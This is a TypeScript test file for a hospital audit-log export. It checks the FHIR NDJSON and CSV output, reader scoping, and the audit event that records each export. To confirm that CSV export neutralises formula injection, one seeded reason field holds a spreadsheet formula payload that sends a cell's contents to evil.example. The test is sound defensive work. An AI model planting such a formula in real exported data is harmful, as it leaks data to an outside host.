// The one export behind the CLI and the console: the events a filter and scope
// select, as FHIR NDJSON or CSV, then one AuditExported event after them.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportAudit, type AuditExportFormat } from '../../src/app/export-audit.js';
import { AUDIT_CSV_HEADER, auditCsvRow } from '../../src/core/audit/csv.js';
import { AuditAction, type AuditRecord } from '../../src/core/audit/event.js';
import { toFhirAuditEvent } from '../../src/core/audit/fhir.js';
import type { AuditFilter, AuditScope } from '../../src/core/audit/filter.js';
import { testEngines } from '../support/engines.js';
import { createTestStorage, type TestStorage } from '../support/storage.js';

const W1 = '11111111-1111-4111-8111-111111111111';
const W2 = '22222222-2222-4222-8222-222222222222';
const P1 = '33333333-3333-4333-8333-333333333333';
const OBSERVER = 'loupe.hospital.example';
const OFFICER = { type: 'user', id: 'privacy-officer-1' } as const;

describe.each(testEngines())('exportAudit on %s', (engine) => {
  let s: TestStorage;
  let seeded: AuditRecord[];
  beforeAll(async () => {
    s = await createTestStorage(engine);
    seeded = [];
    for (let i = 0; i < 6; i++) {
      seeded.push(
        await s.audit.record({
          actor: { type: 'user', id: `U${i}` },
          action: i % 2 ? AuditAction.AssetViewed : AuditAction.BreakGlass,
          outcome: 'success',
          workspaceId: i % 3 === 2 ? null : i % 3 ? W2 : W1,
          patientId: i < 3 ? P1 : null,
          // Typed by someone in a chat: must not run as a formula in a spreadsheet.
          reason: i === 1 ? '=HYPERLINK("http://evil.example/?"&A1,"open")' : null,
          details: { note: 'comma, "quote"' },
        }),
      );
    }
  });
  afterAll(() => s?.cleanup());

  async function run(format: AuditExportFormat, filter: AuditFilter = {}, scope: AuditScope = 'all') {
    const lines: string[] = [];
    const headBefore = (await s.audit.page({}, 'all', { limit: 1 })).events[0]!.seq;
    const count = await exportAudit({ audit: s.audit, observer: OBSERVER, filter, scope, format, actor: OFFICER, out: (line) => void lines.push(line) });
    const after = (await s.audit.page({}, 'all', { limit: 2 })).events;
    return { lines, count, headBefore, after };
  }

  const selected = (filter: (r: AuditRecord) => boolean) => seeded.filter(filter);
  /** The seeded events as stored now: an export seals before it reads, so they carry their chain fields. */
  const storedNow = async (filter: (r: AuditRecord) => boolean) => {
    const ids = selected(filter).map((r) => r.id);
    const rows = (await s.db.prisma.auditEvent.findMany({ where: { id: { in: ids } }, orderBy: { seq: 'asc' } })) as AuditRecord[];
    expect(rows.map((r) => r.id)).toEqual(ids);
    for (const r of rows) expect(r.hash).toMatch(/^[0-9a-f]{64}$/);
    return rows;
  };

  it('writes FHIR AuditEvent NDJSON equal to toFhirAuditEvent, oldest first, then records the export', async () => {
    const { lines, count, headBefore, after } = await run('fhir-ndjson', { patientId: P1 });
    const want = await storedNow((r) => r.patientId === P1);
    expect(count).toBe(want.length);
    expect(lines.map((l) => JSON.parse(l) as unknown)).toEqual(want.map((r) => toFhirAuditEvent(r, { observer: OBSERVER })));
    for (const line of lines) expect(JSON.parse(line)).toMatchObject({ resourceType: 'AuditEvent' });

    // One event, written after the last line, so the export does not list itself.
    const [exported, previous] = after;
    expect(previous?.seq).toBe(headBefore);
    expect(exported).toMatchObject({
      seq: headBefore + 1n,
      action: AuditAction.AuditExported,
      outcome: 'success',
      actorType: 'user',
      actorId: OFFICER.id,
      patientId: P1,
      details: { count: want.length, format: 'fhir-r4-ndjson', patientId: P1, since: null, scope: 'all' },
    });
    expect(lines.some((l) => l.includes(AuditAction.AuditExported))).toBe(false);
  });

  it('writes CSV: the header, then one row per event, formulas neutralised', async () => {
    const since = seeded[1]!.at;
    const { lines, count, after } = await run('csv', { since, action: AuditAction.AssetViewed });
    const want = await storedNow((r) => r.at >= since && r.action === AuditAction.AssetViewed);
    expect(count).toBe(want.length);
    expect(lines).toEqual([AUDIT_CSV_HEADER, ...want.map(auditCsvRow)]);
    const injected = lines.find((l) => l.includes('HYPERLINK'));
    expect(injected).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`);
    expect(lines.slice(1).every((l) => !/(^|,)"?[=+\-@]/.test(l))).toBe(true);
    expect(after[0]).toMatchObject({
      action: AuditAction.AuditExported,
      details: { count: want.length, format: 'csv', since: since.toISOString(), action: AuditAction.AssetViewed },
    });
  });

  it("keeps to the reader's scope, and an empty result still has its header and its audit event", async () => {
    const scoped = await run('fhir-ndjson', {}, { workspaceIds: [W1] });
    expect(scoped.lines.map((l) => (JSON.parse(l) as { id: string }).id)).toEqual(selected((r) => r.workspaceId === W1).map((r) => r.id));
    expect(scoped.after[0]).toMatchObject({ details: { scope: [W1] } });

    const none = await run('csv', { actorId: 'nobody' });
    expect(none).toMatchObject({ count: 0, lines: [AUDIT_CSV_HEADER] });
    expect(none.after[0]).toMatchObject({ action: AuditAction.AuditExported, details: { count: 0, actorId: 'nobody' } });
  });

  it('records an export cut short as a failure, with what had left', async () => {
    let written = 0;
    const out = () => {
      if (++written > 2) throw new Error('reader went away');
    };
    await expect(
      exportAudit({ audit: s.audit, observer: OBSERVER, filter: {}, scope: 'all', format: 'fhir-ndjson', actor: OFFICER, out }),
    ).rejects.toThrow('reader went away');
    const [last] = (await s.audit.page({}, 'all', { limit: 1 })).events;
    expect(last).toMatchObject({ action: AuditAction.AuditExported, outcome: 'failure', details: { count: 2 } });
    expect(await s.audit.verify()).toMatchObject({ ok: true });
  });
});
